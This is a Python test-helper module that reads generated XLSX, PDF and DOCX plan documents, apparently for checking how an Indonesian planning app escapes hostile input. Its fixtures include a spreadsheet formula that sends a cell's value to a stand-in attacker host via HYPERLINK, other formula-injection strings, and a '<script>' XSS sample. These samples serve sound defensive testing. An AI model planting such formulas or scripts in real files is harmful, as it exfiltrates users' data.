"""Readers for the generated documents, so tests can check what a person would see."""

from __future__ import annotations

import io
import re
import shutil
import subprocess
from pathlib import Path

import docx
import openpyxl
from docx.text.paragraph import Paragraph

from renaksi.conftest import small_parsed_plan
from renaksi.plans.parsed import ParsedPlan
from renaksi.plans.services import plan_import

ARTIFACTS = Path(__file__).resolve().parents[3] / "test-artifacts"
HOSTILE_FORMULAS = [
    '=HYPERLINK("http://penyerang.example/?d="&A1,"Klik di sini")',
    "+62 812 3456",
    "-1 pelaporan tanpa tanda",
    "@SUM(1+1)",
]
HOSTILE_ACTIVITY = "=SUM(A1:A9)*0"  # merged over three rows
SCRIPT = "<script>alert(1)</script>"


# --- XLSX ------------------------------------------------------------------------------------


def open_sheet(data: bytes):
    return openpyxl.load_workbook(io.BytesIO(data)).active


def header_row(ws) -> int:
    """The 1-based row holding the column headings (NO, AREA PERUBAHAN, …)."""
    for row in ws.iter_rows(min_col=1, max_col=1):
        if row[0].value == "NO":
            return row[0].row
    raise AssertionError("no NO heading in column A")


def merged_range_at(ws, row: int, col: int):
    for merged in ws.merged_cells.ranges:
        if merged.min_row == row and merged.min_col == col:
            return merged
    return None


# --- PDF -------------------------------------------------------------------------------------


def _poppler(program: str, args: list[str], data: bytes) -> str:
    assert shutil.which(program), f"{program} missing: apt-get install poppler-utils"
    result = subprocess.run(  # noqa: S603 (fixed program, our own PDF on stdin)
        [program, *args],
        input=data,
        capture_output=True,
        check=True,
    )
    return result.stdout.decode()


def pdf_pages(data: bytes, *, layout: bool = True) -> list[str]:
    """The text of each page, read by poppler's pdftotext (Debian package poppler-utils).

    ``layout`` keeps the columns side by side; without it a cell's lines stay together.
    """
    args = ["-layout"] if layout else []
    pages = _poppler("pdftotext", [*args, "-enc", "UTF-8", "-", "-"], data).split("\f")
    return pages[:-1] if pages and not pages[-1].strip() else pages


def squeezed(text: str) -> str:
    """Text without any whitespace, to find words a narrow cell wrapped."""
    return "".join(text.split())


def pdf_page_size(data: bytes) -> tuple[float, float]:
    """Width and height of the first page in points, from poppler's pdfinfo."""
    info = _poppler("pdfinfo", ["-"], data)
    match = re.search(r"Page size:\s+([\d.]+) x ([\d.]+) pts", info)
    return float(match[1]), float(match[2])


def save_first_page_png(data: bytes, name: str) -> Path:
    """Keep the PDF and a PNG of its first page in test-artifacts/, for a person to look at."""
    ARTIFACTS.mkdir(exist_ok=True)
    pdf_path = ARTIFACTS / f"{name}.pdf"
    pdf_path.write_bytes(data)
    if shutil.which("pdftoppm"):
        subprocess.run(  # noqa: S603
            ["pdftoppm", "-r", "60", "-png", "-f", "1", "-l", "1", "-singlefile"]  # noqa: S607
            + [str(pdf_path), str(ARTIFACTS / name)],
            check=True,
        )
    return ARTIFACTS / f"{name}.png"


# --- DOCX ------------------------------------------------------------------------------------


def open_docx(data: bytes):
    return docx.Document(io.BytesIO(data))


def docx_text(document) -> str:
    """All the text of the body, tables included, one paragraph a line."""
    lines = [p.text for p in document.paragraphs]
    for table in document.tables:
        for tr in table._tbl.tr_lst:
            for tc in tr.tc_lst:
                lines.extend(p.text for p in docx.table._Cell(tc, table).paragraphs)
    return "\n".join(lines)


def plan_table_of(document):
    return max(document.tables, key=lambda table: len(table._tbl.tr_lst))


def cell_text(tc) -> str:
    """A table cell's text; line breaks and paragraphs become newlines."""
    return "\n".join(Paragraph(p, None).text for p in tc.iter(docx.oxml.ns.qn("w:p")))


# --- plans -----------------------------------------------------------------------------------


def import_parsed(tree, people, parsed: ParsedPlan, year: int = 2024):
    return plan_import(
        unit=tree.bengkulu_tengah,
        year=year,
        parsed=parsed,
        actor=people.sekretaris,
        source_name="uji.json",
        source_bytes=b"{}",
        source_format="json",
    )


def hostile_parsed(granularity: str = "month") -> ParsedPlan:
    """The small plan with formula-like indicators and HTML in names, notes and the decree."""
    parsed = small_parsed_plan(granularity)
    indicators = list(parsed.iter_indicators())
    for indicator, text in zip(indicators, HOSTILE_FORMULAS, strict=True):
        indicator.number, indicator.text = "", text
    parsed.areas[0].activities[0].number = ""
    parsed.areas[0].activities[0].name = HOSTILE_ACTIVITY
    indicators[-1].note = f"Tom & Jerry {SCRIPT}"
    parsed.areas[0].name = f"Manajemen {SCRIPT}"
    parsed.decree.considering = f"a. bahwa {SCRIPT} & lainnya;\nb. bahwa kedua;"
    parsed.decree.signer_name = "A & B <i>"
    return parsed
